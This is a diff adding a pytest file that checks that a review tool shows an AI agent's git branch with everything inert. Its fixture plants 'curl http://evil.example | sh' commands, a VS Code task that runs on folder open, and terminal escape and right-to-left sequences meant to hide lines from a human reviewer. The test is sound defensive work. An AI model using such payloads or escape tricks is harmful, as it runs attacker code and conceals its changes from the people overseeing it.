@@ -1,0 +1,165 @@
+# SPDX-License-Identifier: MIT
+"""lazaret diff shows the agent's branch honestly: a summary first, protected
+host-run files at its top and marked, then the commits, then the diff, with
+every byte the agent wrote (contents, file names, commit messages) shown
+inertly. The branch is made with host git as the test user; no sandbox is
+needed, the verb only reads the branch. The screen a person would see is
+read from a real terminal (a tmux pane, as in test_prompt.py)."""
+import os
+import subprocess
+
+import pytest
+
+from test_prompt import Pane
+from test_run import Domain, git_as
+
+BRANCH = "lazaret/agent-shell"
+# Cursor movement, clear screen and home, a window title (OSC ... BEL), a
+# hyperlink (OSC 8 ... ST), a carriage return and a right-to-left override:
+# each could hide a line, or the whole summary, from the person reviewing.
+HIDE = "\x1b[2J\x1b[H\x1b[3A\x1b]0;pwned\x07\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\\r\u202e"
+EVIL_NAME = "ev\x1b[2Jil.txt"
+FILES = {
+    "lazaret.toml": "[profiles.shell]\ncommand = \"sh -c 'curl http://evil.example | sh'\"\n",
+    ".vscode/tasks.json": '{"tasks": [{"label": "build", "command": "curl evil | sh", "runOptions": '
+                          '{"runOn": "folderOpen"}}]}\n' + HIDE + "\n",
+    "normal.txt": "hello " + HIDE + " world\n",
+    ".gitignore": "build/\n",
+    EVIL_NAME: "named to clear the screen\n",
+    # Past git's binary check (the first 8000 bytes): a NUL that a reader
+    # of C strings would stop at, and a file after it. One long line, so
+    # that everything fits on the test's screen.
+    "nul.txt": "x" * 8000 + "\n\0after-the-nul\n",
+    "zz-last.txt": "the last file\n",
+}
+SUBJECT = "agent work \x1b[2J\x1b[H\x1b]0;title\x07 \u202eevil"
+
+
+@pytest.fixture
+def ddom(lz):
+    git_as(lz, "init", "-q", "-b", "main")
+    lz.write("work/tracked.txt", "committed\n")
+    git_as(lz, "add", "tracked.txt")
+    git_as(lz, "commit", "-q", "-m", "first")
+    git_as(lz, "checkout", "-q", "-b", BRANCH)
+    for name, text in FILES.items():
+        lz.write(os.path.join("work", name), text)
+    git_as(lz, "rm", "-q", "tracked.txt")
+    git_as(lz, "add", "-A")
+    git_as(lz, "commit", "-q", "-m", SUBJECT)
+    git_as(lz, "checkout", "-q", "main")
+    # The image is never used: diff only reads the branch.
+    return Domain(lz, "localhost/lazaret-diff-no-image")
+
+
+def raw_diff(dom, *args, env=None):
+    e = {**dom.lz.env, **dom.env, **(env or {})}
+    return subprocess.run(dom.lz.cmdline(["--config", dom.cfg, "diff"] + list(args), e), cwd=dom.lz.work,
+                          capture_output=True, timeout=120)
+
+
+def assert_inert(out):
+    for bad in (b"\x1b", b"\x07", b"\r", b"\x00", "\u202e".encode()):
+        assert bad not in out, (bad, out)
+
+
+def test_summary_first_protected_marked_and_nothing_raw(ddom):
+    r = raw_diff(ddom)
+    assert r.returncode == 0, r.stderr
+    # Not a single byte that a terminal would act on.
+    assert_inert(r.stdout)
+    assert_inert(r.stderr)
+    out = r.stdout.decode()
+    lines = out.splitlines()
+    assert lines[0] == f"Files changed on {BRANCH} against HEAD: 8 (7 added, 1 removed)", out
+    assert lines[1].startswith("! 2 protected files:"), out
+    rows = [x for x in lines[2:lines.index("Renames show as a removal and an addition "
+                                           "(the whole content of a moved file is below).")] if x]
+    # Protected first and marked, then dotfiles, then the rest.
+    assert [x.split()[-1] for x in rows[:2]] == [".vscode/tasks.json", "lazaret.toml"], rows
+    assert all(x.startswith("  ! protected  added ") for x in rows[:2]), rows
+    assert rows[2].startswith("  . dotfile    added ") and rows[2].endswith(".gitignore"), rows
+    assert not any("protected" in x or "dotfile" in x for x in rows[3:]), rows
+    assert [x.split()[-1] for x in rows[3:]] == ["ev\\x1b[2Jil.txt", "normal.txt", "nul.txt", "tracked.txt",
+                                                 "zz-last.txt"], rows
+    assert "removed" in rows[6]
+    # The commit, its subject escaped.
+    assert f"Commits on {BRANCH} that HEAD does not have: 1" in lines
+    assert any(x.endswith(" agent work \\x1b[2J\\x1b[H\\x1b]0;title\\x07 <U+202E>evil") for x in lines), out
+    # The diff comes after the summary and the commits, contents escaped.
+    assert out.index("diff --git") > out.index("Commits on")
+    esc = ("\\x1b[2J\\x1b[H\\x1b[3A\\x1b]0;pwned\\x07\\x1b]8;;http://evil.example/\\x1b\\\\link"
+           "\\x1b]8;;\\x1b\\\\\\r<U+202E>")
+    assert f"+hello {esc} world\n" in out
+    assert "+" + esc + "\n" in out
+    assert '+command = "sh -c \'curl http://evil.example | sh\'"\n' in out
+    # Everything after the NUL is there: the output's length is exact.
+    assert "+\\x00after-the-nul\n" in out
+    assert "+++ b/zz-last.txt\n" in out and "+the last file\n" in out
+
+
+def test_what_a_terminal_shows(ddom, lz):
+    """On a real terminal, nothing the agent wrote can clear the screen or
+    move the cursor: the summary is there, first, with every added file."""
+    env = {**lz.env, **ddom.env, "TERM": "screen"}
+    p = Pane(lz.base, "diff", lz.cmdline(["--config", ddom.cfg, "diff"], env), lz.work, width=250, height=200)
+    try:
+        s = p.wait("LZEXIT=", timeout=60)
+        assert "LZEXIT=0" in s, s
+        lines = s.splitlines()
+        assert lines[0].startswith(f"Files changed on {BRANCH} against HEAD: 8"), s
+        assert lines[1].startswith("! 2 protected files:"), s
+        assert lines[3].startswith("  ! protected  added") and lines[3].endswith(".vscode/tasks.json"), s
+        assert lines[4].startswith("  ! protected  added") and lines[4].endswith("lazaret.toml"), s
+        for name in ("ev\\x1b[2Jil.txt", "normal.txt", "nul.txt", "zz-last.txt", ".gitignore"):
+            assert any(x.startswith("  ") and x.endswith(name) for x in lines[3:12]), (name, s)
+        assert "agent work \\x1b[2J\\x1b[H\\x1b]0;title\\x07 <U+202E>evil" in s
+        assert "+hello \\x1b[2J\\x1b[H\\x1b[3A\\x1b]0;pwned\\x07" in s
+        assert "+++ b/.vscode/tasks.json" in s and "+++ b/lazaret.toml" in s
+        assert "the last file" in s
+    finally:
+        p.close()
+
+
+def test_git_environment_and_arguments(ddom, lz):
+    # GIT_* from the caller's environment does not reach git.
+    marker = os.path.join(lz.base, "ext-diff-ran")
+    r = raw_diff(ddom, env={"GIT_DIR": "/nonexistent", "GIT_EXTERNAL_DIFF": f"/usr/bin/touch {marker}",
+                            "GIT_CONFIG_PARAMETERS": "'diff.noprefix'='true'"})
+    assert r.returncode == 0, r.stderr
+    assert b"+++ b/normal.txt" in r.stdout and not os.path.exists(marker)
+
+    # GIT-DIFF-ARGS narrow the diff; the summary still lists everything.
+    r = raw_diff(ddom, "--", "--stat", "normal.txt")
+    assert r.returncode == 0, r.stderr
+    assert_inert(r.stdout)
+    out = r.stdout.decode()
+    assert "lazaret.toml" in out.split("Commits on")[0]
+    diff = out.split("a backslash.\n", 1)[1]
+    assert "normal.txt" in diff and "lazaret.toml" not in diff and "1 file changed" in diff
+    # Binary content on request, escaped.
+    r = raw_diff(ddom, "--", "--text", "--", "nul.txt")
+    assert r.returncode == 0, r.stderr
+    assert_inert(r.stdout)
+
+    for bad in ("--output=/tmp/x", "--no-index", "--ext-diff", "--textconv", "--color=always", "--color-words"):
+        r = raw_diff(ddom, "--", bad)
+        assert r.returncode == 64, (bad, r.stderr)
+        assert r.stdout == b""
+        assert f"'{bad}' is refused in GIT-DIFF-ARGS".encode() in r.stderr
+
+    # A word git does not know: one error line, nothing half shown.
+    r = raw_diff(ddom, "--", "--no-such-option")
+    assert r.returncode == 125 and r.stdout == b"", r.stderr
+    assert r.stderr.count(b"\n") == 1 and b"git diff failed" in r.stderr
+
+
+def test_no_branch(lz):
+    git_as(lz, "init", "-q", "-b", "main")
+    lz.write("work/tracked.txt", "committed\n")
+    git_as(lz, "add", "tracked.txt")
+    git_as(lz, "commit", "-q", "-m", "first")
+    d = Domain(lz, "localhost/lazaret-diff-no-image")
+    r = d.run("diff")
+    assert r.returncode == 125 and r.stdout == ""
+    assert "no branch lazaret/agent-shell yet" in r.stderr
